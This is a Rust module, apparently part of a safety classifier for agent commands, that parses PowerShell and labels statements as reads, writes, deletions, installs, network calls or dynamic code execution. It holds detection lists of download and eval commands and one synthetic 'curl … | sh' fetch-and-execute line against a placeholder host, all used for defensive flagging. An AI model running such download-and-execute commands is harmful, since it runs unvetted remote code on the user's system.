//! PowerShell code (`pwsh -c`, `powershell -Command`, `-File x.ps1`): splits the
//! code into statements (outside quotes, at `; | && || { } ( )` and newlines) and
//! reads each statement's command word: `Verb-Noun` cmdlets by verb, common
//! aliases (`rm`, `iex`, `iwr`) by what they stand for, and anything else as an
//! external command handed to the shell classifier.
//!
//! It does not model PowerShell's expression language beyond that.

use crate::lanes::scripts::{Analysis, Effect};

crate::table! {
    /// Cmdlet verbs that only read. Not here: `Checkpoint-*` (a restore point, a VM
    /// snapshot), `Debug-*` (attaches a debugger, like `gdb -p`) and `Start-*` (a VM, a
    /// scheduled task, a job; `Start-Sleep` is read below) change live state; `Tee-Object`
    /// is a write, matched by name before any verb; no cmdlet uses `Ping` (a `Ping-*`
    /// from some module asks). A word with no verb is handed to the shell classifier
    /// (`get-thing` is an unknown program there, T0 as well), so the probe names the rule.
    READ_VERBS = [
        "get", "test", "select", "format", "measure", "where", "sort", "group", "compare", "convertto", "convertfrom", "join", "split", "resolve", "read", "find",
        "search", "show", "wait", "trace", "write", "foreach", "out", "import", "expand", "use", "confirm",
    ];
    probe "pwsh -c '{}-Thing x'" => T0, "interp.code.read";
}
crate::table! {
    /// Aliases and keywords that read or only steer; any other word is handed to the shell
    /// classifier (where most are unknown programs, T0 as well), so the probe names the rule.
    READ_ALIASES = [
        "ls", "dir", "gci", "cat", "gc", "type", "echo", "write", "pwd", "gl", "cd", "sl", "where", "?", "%", "foreach", "select", "sort", "measure", "gm", "gps",
        "ps", "gsv", "gcm", "help", "man", "cls", "clear", "history", "h", "fl", "ft", "fw", "gi", "gp", "gv", "gal", "popd", "pushd", "exit", "return", "if",
        "else", "elseif", "for", "while", "param", "function", "try", "catch", "finally", "throw", "switch", "true", "false", "null", "start-sleep",
    ];
    probe "pwsh -c '{}'" => T0, "interp.code.read";
}

/// Analyses PowerShell source.
pub fn analyse(src: &str) -> Analysis {
    let mut out = Analysis::default();
    let lower = src.to_ascii_lowercase();
    let downloads =
        ["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "downloadstring", "downloadfile", "wget", "curl"].iter().any(|w| lower.contains(w));
    let evaluates = ["iex", "invoke-expression"].iter().any(|w| lower.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').any(|t| t == *w));
    if downloads && evaluates {
        // `iex (iwr …)`, `iwr … | iex`: downloaded code run as-is, the `curl | sh` of PowerShell.
        out.push(Effect::Shell("curl -s https://remote.invalid/script | sh".to_owned()), "iwr … | iex");
    }
    for stmt in statements(src) {
        // `>`/`>>`/`2>`/`*>` write a file whatever the command is (`Get-Date > /etc/motd`).
        for target in redirect_targets(&stmt) {
            out.push(Effect::Write(target), ">");
        }
        let words: Vec<&str> = stmt.split_whitespace().collect();
        let Some(first) = words.first() else { continue };
        let first = first.trim_matches(|c| c == '"' || c == '\'');
        if first.starts_with('$')
            || first.starts_with('#')
            || first.starts_with('[')
            || first.starts_with('@')
            || first.starts_with('-')
            || first.chars().all(|c| c.is_ascii_digit())
        {
            // Assignments and expressions: their right-hand side is its own statement when it runs a command.
            if let Some(rhs) = stmt
                .split_once('=')
                .map(|(_, r)| r.trim())
                .filter(|r| !r.is_empty() && !r.starts_with('$') && r.chars().next().is_some_and(char::is_alphabetic))
            {
                let inner = analyse(rhs);
                out.findings.extend(inner.findings);
            }
            continue;
        }
        let lower = first.to_ascii_lowercase();
        let value_of = |names: &[&str]| {
            words.windows(2).find(|w| names.iter().any(|n| w[0].eq_ignore_ascii_case(n))).map(|w| w[1].trim_matches(|c| c == '"' || c == '\'').to_owned())
        };
        let positional = || words.iter().skip(1).find(|w| !w.starts_with('-')).map(|w| w.trim_matches(|c| c == '"' || c == '\'').to_owned());
        let effect = match lower.as_str() {
            "remove-item" | "rm" | "del" | "erase" | "rd" | "rmdir" | "ri" | "clear-content" | "clc" | "clear-item" | "cli" | "clear-recyclebin" => {
                let target = value_of(&["-Path", "-LiteralPath"]).or_else(positional);
                let recursive = words.iter().any(|w| w.eq_ignore_ascii_case("-Recurse") || w.eq_ignore_ascii_case("-r"));
                Some(Effect::Delete { target, recursive })
            }
            "move-item" | "mv" | "move" | "mi" | "rename-item" | "ren" | "rni" => Some(Effect::Move),
            "copy-item" | "cp" | "copy" | "cpi" => Some(Effect::Write(
                value_of(&["-Destination"]).or_else(|| words.iter().skip(1).filter(|w| !w.starts_with('-')).nth(1).map(|w| (*w).to_owned())),
            )),
            "set-content" | "sc" | "add-content" | "ac" | "out-file" | "new-item" | "ni" | "md" | "mkdir" | "tee-object" => {
                Some(Effect::Write(value_of(&["-Path", "-FilePath", "-LiteralPath"]).or_else(positional)))
            }
            "invoke-expression" | "iex" | "invoke-command" | "icm" | "add-type" => Some(Effect::Dynamic),
            "invoke-webrequest" | "iwr" | "invoke-restmethod" | "irm" | "curl" | "wget" => {
                let method = value_of(&["-Method"]).map(|m| m.to_ascii_uppercase());
                let writes = method.is_some_and(|m| !matches!(m.as_str(), "GET" | "HEAD" | "OPTIONS"))
                    || words.iter().any(|w| w.eq_ignore_ascii_case("-Body") || w.eq_ignore_ascii_case("-InFile"));
                let out_file = value_of(&["-OutFile"]);
                if writes {
                    Some(Effect::Network)
                } else {
                    out_file.map(|f| Effect::Write(Some(f)))
                }
            }
            "start-process" | "saps" | "start" | "&" | "." => Some(Effect::ExecUnseen),
            "stop-process" | "kill" | "spps" => Some(Effect::Process),
            "install-module" | "install-package" | "uninstall-module" | "uninstall-package" | "install-script" | "update-module" | "choco" | "winget"
            | "scoop" => Some(Effect::Install),
            _ if READ_ALIASES.contains(lower.as_str()) => None,
            _ if lower.contains('-') && first.chars().next().is_some_and(char::is_uppercase)
                || lower.contains('-') && READ_VERBS.iter().chain(MUTATING_VERBS).any(|v| lower.starts_with(&format!("{v}-"))) =>
            {
                let verb = lower.split('-').next().unwrap_or("");
                if READ_VERBS.contains(verb) && !lower.starts_with("out-file") {
                    None
                } else {
                    Some(Effect::Mutate)
                }
            }
            _ => Some(Effect::Shell(stmt.trim().to_owned())),
        };
        if let Some(e) = effect {
            out.push(e, first);
        }
    }
    out
}

crate::table! {
    MUTATING_VERBS = [
        "set", "new", "remove", "add", "clear", "stop", "restart", "invoke", "install", "uninstall", "update", "enable", "disable", "register", "unregister",
        "export", "publish", "push", "suspend", "resume", "mount", "dismount", "rename", "move", "copy", "reset", "grant", "revoke", "block", "unblock", "protect",
        "unprotect", "lock", "unlock", "send", "connect", "disconnect", "submit", "deny", "approve", "deploy", "initialize", "optimize", "repair", "restore",
        "backup", "save", "sync", "edit", "start", "checkpoint", "debug",
    ];
    probe "pwsh -c '{}-Thing x'" => T3, "interp.code.mutating-command";
}

/// The files a statement's redirections write (`> f`, `>> f`, `2> f`, `*>f`), outside
/// quotes; `None` for a computed target (`> $env:TEMP\x`). `> $null` discards and a
/// stream merge (`2>&1`, cut at `&` into an empty target) writes nothing.
fn redirect_targets(stmt: &str) -> Vec<Option<String>> {
    let mut out = Vec::new();
    let mut quote: Option<char> = None;
    let mut chars = stmt.chars().peekable();
    while let Some(ch) = chars.next() {
        if let Some(q) = quote {
            if ch == q {
                quote = None;
            }
            continue;
        }
        match ch {
            '\'' | '"' => quote = Some(ch),
            '>' => {
                if chars.peek() == Some(&'>') {
                    chars.next();
                }
                while chars.peek().is_some_and(|c| c.is_whitespace()) {
                    chars.next();
                }
                let mut target = String::new();
                match chars.peek().copied() {
                    Some(q @ ('\'' | '"')) => {
                        chars.next();
                        target.extend(chars.by_ref().take_while(|&c| c != q));
                    }
                    _ => {
                        while let Some(&c) = chars.peek() {
                            if c.is_whitespace() || c == '>' {
                                break;
                            }
                            target.push(c);
                            chars.next();
                        }
                    }
                }
                if target.is_empty() || target.eq_ignore_ascii_case("$null") {
                    continue;
                }
                out.push(if target.contains('$') { None } else { Some(target) });
            }
            _ => {}
        }
    }
    out
}

/// Statements split outside quotes at `; | && || { } ( )` and newlines. A `$( … )`
/// inside a double-quoted string is code PowerShell runs when it expands the
/// string (`"x $(Remove-Item -Recurse build)"`): its statements are read too.
fn statements(src: &str) -> Vec<String> {
    let chars: Vec<char> = src.chars().collect();
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    let mut i = 0;
    while i < chars.len() {
        let ch = chars[i];
        i += 1;
        if let Some(q) = quote {
            cur.push(ch);
            if ch == q {
                quote = None;
            } else if q == '"' && ch == '$' && chars.get(i) == Some(&'(') {
                let end = subexpression_end(&chars, i);
                out.extend(statements(&chars[i + 1..end].iter().collect::<String>()));
                cur.extend(&chars[i..(end + 1).min(chars.len())]);
                i = end + 1;
            }
            continue;
        }
        match ch {
            '\'' | '"' => {
                quote = Some(ch);
                cur.push(ch);
            }
            ';' | '|' | '&' | '{' | '}' | '(' | ')' | '\n' => {
                if ch == '&' && cur.trim().is_empty() {
                    cur.push_str("& ");
                    continue;
                }
                out.push(std::mem::take(&mut cur));
            }
            _ => cur.push(ch),
        }
    }
    out.push(cur);
    out.retain(|s| !s.trim().is_empty());
    out
}

/// Where the `(` at `open` closes, nested parentheses and quotes honoured; the end of
/// the source when it never closes (the rest is then read as the subexpression).
fn subexpression_end(chars: &[char], open: usize) -> usize {
    let mut depth = 0;
    let mut quote: Option<char> = None;
    for (k, &c) in chars.iter().enumerate().skip(open) {
        match (quote, c) {
            (Some(q), _) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(c),
            (None, '(') => depth += 1,
            (None, ')') => {
                depth -= 1;
                if depth == 0 {
                    return k;
                }
            }
            _ => {}
        }
    }
    chars.len()
}

crate::tables![READ_VERBS, READ_ALIASES, MUTATING_VERBS];
